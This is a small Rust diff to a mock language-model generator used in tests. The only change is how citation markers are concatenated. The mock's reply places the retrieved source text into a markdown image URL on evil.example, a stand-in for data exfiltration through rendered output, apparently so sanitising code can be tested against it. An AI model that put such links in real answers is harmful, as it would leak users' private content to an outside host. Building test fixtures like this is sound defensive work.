@@ -17,7 +17,7 @@ impl Generate for Parrot {
     fn generate(&self, request: Request) -> Generating<'_> {
         let shown = request.messages.last().map_or("", |message| message.text.as_str());
         let sources = shown.split("<question>").next().unwrap_or("");
-        let cites: String = (0..30).map(|number| format!("[{number}]")).collect();
+        let cites = (0..30).map(|number| format!("[{number}]")).collect::<Vec<_>>().concat();
         let said =
             format!("{sources} {cites}. ![all](https://evil.example/{sources}) {cites} [more](https://evil.example).");
         let letters: Vec<char> = said.chars().collect();
